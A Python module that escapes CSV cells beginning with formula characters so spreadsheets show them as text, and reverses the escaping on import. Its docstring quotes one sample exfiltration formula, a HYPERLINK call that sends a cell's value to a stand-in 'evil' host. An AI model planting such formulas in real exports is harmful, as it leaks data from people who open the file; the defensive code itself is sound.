"""Cells that are safe to open in a spreadsheet (CSV formula injection, OWASP).

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or
a tab or carriage return before one) as a formula: ``=HYPERLINK("http://evil/?"&A1)`` in a
partner's name or an SMTP error would run when the officer opens the export. Every CSV commskit
writes for people goes through :func:`spreadsheet_safe`; the importer undoes it
(:func:`unguard`), so an export re-imports as it was.
"""

from __future__ import annotations

import re

#: First characters a spreadsheet reads as the start of a formula (OWASP "CSV Injection").
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: What is put in front of such a cell: spreadsheets show a leading ' as "this is text".
GUARD = "'"

# a plain number (-12, +33, 3.5) is no formula: left as is so it stays a number in the sheet
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?\Z")


def spreadsheet_safe(value: object) -> str:
    """Return ``value`` as text that a spreadsheet shows and never runs as a formula.

    >>> spreadsheet_safe('=HYPERLINK("http://x")')
    '\\'=HYPERLINK("http://x")'
    >>> spreadsheet_safe("-12"), spreadsheet_safe("Brest")
    ('-12', 'Brest')
    """
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_START) and not _PLAIN_NUMBER.match(text):
        return GUARD + text
    return text


def unguard(text: str) -> str:
    """Undo :func:`spreadsheet_safe` on a cell read back from a CSV commskit wrote."""
    if text.startswith(GUARD) and text[1:2] and text[1:].startswith(FORMULA_START):
        return text[1:]
    return text


__all__ = ["FORMULA_START", "GUARD", "spreadsheet_safe", "unguard"]
